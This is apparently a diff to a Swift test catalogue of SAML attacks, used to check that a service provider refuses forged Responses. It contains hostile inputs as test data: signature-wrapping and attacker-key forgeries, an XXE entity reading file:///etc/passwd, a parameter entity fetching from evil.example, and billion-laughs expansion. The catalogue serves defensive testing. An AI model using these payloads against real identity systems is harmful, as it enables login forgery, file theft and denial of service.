@@ -22,6 +22,12 @@ public struct SAMLAttackCatalogue: Sendable {
         public var now = Date(timeIntervalSince1970: 1_767_258_000)  // 2026-01-01T09:00:00Z
         public var signing: SigningCredential
         public var attacker: SigningCredential
+        /// The person the genuine Response is about (its NameID and `email` attribute).
+        public var nameID = "alice@example.com"
+        /// Mixed into the IDs when not empty. The files are built without one (the same
+        /// IDs every time); a live flow passes its request ID, so a real SP with a replay
+        /// cache never sees an Assertion ID twice across runs.
+        public var seedSalt = ""
 
         public init(signing: SigningCredential, attacker: SigningCredential) {
             self.signing = signing
@@ -50,7 +56,8 @@ public struct SAMLAttackCatalogue: Sendable {
     struct Shape {
         var signResponse = true
         var signAssertion = true
-        var nameID = "alice@example.com"
+        /// nil: the context's `nameID`.
+        var nameID: String?
         var audience: String?
         var recipient: String?
         var destination: String?
@@ -62,7 +69,8 @@ public struct SAMLAttackCatalogue: Sendable {
     /// A genuine Response of the given shape (IDs seeded from `name`: the same every time).
     func response(_ name: String, _ shape: Shape = Shape()) throws -> String {
         var seed: UInt64 = 0xcbf2_9ce4_8422_2325
-        for byte in name.utf8 { seed = (seed ^ UInt64(byte)) &* 0x0100_0000_01b3 }
+        for byte in (context.seedSalt.isEmpty ? name : name + "|" + context.seedSalt).utf8 { seed = (seed ^ UInt64(byte)) &* 0x0100_0000_01b3 }
+        let nameID = shape.nameID ?? context.nameID
         let clock = FixedWallClock(context.now.addingTimeInterval(shape.shift))
         return try SAMLResponseBuilder(clock: clock, random: SeededRandomSource(seed: seed)).build(
             SAMLResponseParameters(
@@ -70,8 +78,8 @@ public struct SAMLAttackCatalogue: Sendable {
                 inResponseTo: shape.inResponseTo ?? context.requestID, audiences: [shape.audience ?? context.spEntityID],
                 recipient: shape.recipient ?? context.acs, validity: 300, status: .success,
                 assertion: SAMLAssertionContent(
-                    nameID: shape.nameID, nameIDFormat: NameIDFormat.emailAddress.rawValue,
-                    attributes: [SAMLAttribute(name: "email", values: [shape.nameID])], authnInstant: clock.now, sessionIndex: "_session-1"),
+                    nameID: nameID, nameIDFormat: NameIDFormat.emailAddress.rawValue,
+                    attributes: [SAMLAttribute(name: "email", values: [nameID])], authnInstant: clock.now, sessionIndex: "_session-1"),
                 signing: shape.signResponse || shape.signAssertion
                     ? SAMLSigningOptions(
                         credential: shape.attackerKey ? context.attacker : context.signing, algorithm: .rsaSHA256, digest: .sha256,
@@ -79,19 +87,39 @@ public struct SAMLAttackCatalogue: Sendable {
                     : nil))
     }
 
-    public func entries() throws -> [Entry] {
+    /// One entry, built alone (a live flow needs one, not thirty signatures).
+    public func entry(named name: String) throws -> Entry? {
+        try entries(only: name).first
+    }
+
+    public func entries() throws -> [Entry] { try entries(only: nil) }
+
+    /// The catalogue, or only the entry named `only`: each entry is a closure, so the
+    /// entries not asked for are never signed.
+    func entries(only: String?) throws -> [Entry] {
         let responseSigned = Shape(signResponse: true, signAssertion: false)
         let assertionSigned = Shape(signResponse: false, signAssertion: true)
         let wrapping = "signature wrapping"
         let signature = "signature"
         let parsing = "XML parsing"
         let conditions = "conditions"
-        func entry(_ name: String, _ family: String, _ title: String, _ xml: String, _ expected: Expectation) -> Entry {
-            Entry(name: name, family: family, title: title, xml: xml, expected: expected)
+        func entry(_ name: String, _ family: String, _ title: String, _ xml: @autoclosure () throws -> String, _ expected: Expectation) throws -> Entry? {
+            guard only == nil || only == name else { return nil }
+            return Entry(name: name, family: family, title: title, xml: try xml(), expected: expected)
         }
-        let genuine = try response("genuine")
-        var list = [
-            entry("genuine", "baseline", "The genuine Response, both signatures: accepted", genuine, .accepted(subject: "alice@example.com")),
+        var built: String?
+        func genuine() throws -> String {
+            if let built { return built }
+            built = try response("genuine")
+            return built!
+        }
+        func document() throws -> String {  // without any XML declaration
+            let genuine = try genuine()
+            return genuine.hasPrefix("<?xml") ? String(genuine.drop { $0 != "<" }.drop { $0 != ">" }.dropFirst()) : genuine
+        }
+        let nameID = context.nameID
+        var list: [Entry?] = try [
+            entry("genuine", "baseline", "The genuine Response, both signatures: accepted", genuine(), .accepted(subject: nameID)),
             entry("xsw1-response-clone-signature-carries-original", wrapping,
                   "XSW1: the attacker's Response carries the genuine signature, the signed original inside it",
                   try SAMLWrapping.xsw1(response("xsw1", responseSigned)), .refused(code: "xmldsig.malformed")),
@@ -125,41 +153,39 @@ public struct SAMLAttackCatalogue: Sendable {
             entry("reference-id-appears-twice", signature, "The signed assertion's ID carried by a second element",
                   try SAMLWrapping.duplicateID(response("duplicate-id", assertionSigned)), .refused(code: "xmldsig.duplicate_id")),
             entry("comment-in-nameid", signature,
-                  "A comment inside the signed NameID (alice@example.com<!---->.evil.example): the whole signed value is read",
+                  "A comment inside the signed NameID (\(nameID)<!---->.evil.example): the whole signed value is read",
                   try SAMLWrapping.commentInNameID(
-                      response("comment", Shape(nameID: "alice@example.com.evil.example")), after: "alice@example.com"),
-                  .accepted(subject: "alice@example.com.evil.example")),
+                      response("comment", Shape(nameID: nameID + ".evil.example")), after: nameID),
+                  .accepted(subject: nameID + ".evil.example")),
             entry("whitespace-in-nameid", signature, "Whitespace added inside the signed NameID (c14n keeps it: the digest breaks)",
                   try SAMLWrapping.whitespaceInNameID(response("whitespace", assertionSigned)), .refused(code: "xmldsig.digest_mismatch")),
             entry("attacker-keyinfo", signature, "Signed with the attacker's key, its certificate in KeyInfo",
                   try response("attacker", Shape(attackerKey: true)), .refused(code: "xmldsig.untrusted_key")),
         ]
-        let body = String(genuine.drop { $0 != "<" }.drop { $0 != ">" }.dropFirst())  // without any XML declaration
-        let document = genuine.hasPrefix("<?xml") ? body : genuine
-        list += [
-            entry("doctype-present", parsing, "Any DTD at all", "<!DOCTYPE samlp:Response>" + document, .refused(code: "xml.dtd_forbidden")),
+        list += try [
+            entry("doctype-present", parsing, "Any DTD at all", "<!DOCTYPE samlp:Response>" + document(), .refused(code: "xml.dtd_forbidden")),
             entry("xxe-external-entity", parsing, "XXE: an external entity in the NameID",
-                  "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" + document.replacingOccurrences(of: ">alice@example.com<", with: ">&x;<"),
+                  "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" + document().replacingOccurrences(of: ">\(nameID)<", with: ">&x;<"),
                   .refused(code: "xml.dtd_forbidden")),
             entry("xxe-parameter-entity", parsing, "XXE: an external parameter entity",
-                  "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/p.dtd\"> %p;]>" + document, .refused(code: "xml.dtd_forbidden")),
+                  "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/p.dtd\"> %p;]>" + document(), .refused(code: "xml.dtd_forbidden")),
             entry("billion-laughs", parsing, "Billion laughs: nested entity expansion",
                   "<!DOCTYPE r [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">"
-                    + "<!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]>" + document.replacingOccurrences(of: ">alice@example.com<", with: ">&d;<"),
+                    + "<!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]>" + document().replacingOccurrences(of: ">\(nameID)<", with: ">&d;<"),
                   .refused(code: "xml.dtd_forbidden")),
             entry("deep-nesting", parsing, "Elements nested 100 deep",
-                  document.replacingOccurrences(
+                  document().replacingOccurrences(
                       of: "</samlp:Response>",
                       with: String(repeating: "<samlp:Extensions>", count: 100) + String(repeating: "</samlp:Extensions>", count: 100) + "</samlp:Response>"),
                   .refused(code: "xml.too_deep")),
             entry("huge-document", parsing, "A document over the 256 KiB parser limit",
-                  document.replacingOccurrences(
+                  document().replacingOccurrences(
                       of: "</samlp:Response>", with: "<samlp:Extensions>" + String(repeating: "A", count: 270_000) + "</samlp:Extensions></samlp:Response>"),
                   .refused(code: "xml.too_large")),
             entry("declared-utf16", parsing, "Declared as UTF-16 (only UTF-8 is read)",
-                  "<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + document, .refused(code: "xml.encoding_unsupported")),
+                  "<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + document(), .refused(code: "xml.encoding_unsupported")),
         ]
-        list += [
+        list += try [
             entry("expired", conditions, "Issued two hours ago (validity 5 minutes, skew 60 s)",
                   try response("expired", Shape(shift: -7200)), .refused(code: "saml.expired")),
             entry("not-yet-valid", conditions, "Issued an hour from now", try response("future", Shape(shift: 3600)), .refused(code: "saml.not_yet_valid")),
@@ -174,6 +200,6 @@ public struct SAMLAttackCatalogue: Sendable {
             entry("unsolicited", conditions, "No InResponseTo (IdP-initiated) where unsolicited Responses are off",
                   try response("unsolicited", Shape(inResponseTo: .some(nil))), .refused(code: "saml.unsolicited")),
         ]
-        return list
+        return list.compactMap { $0 }
     }
 }
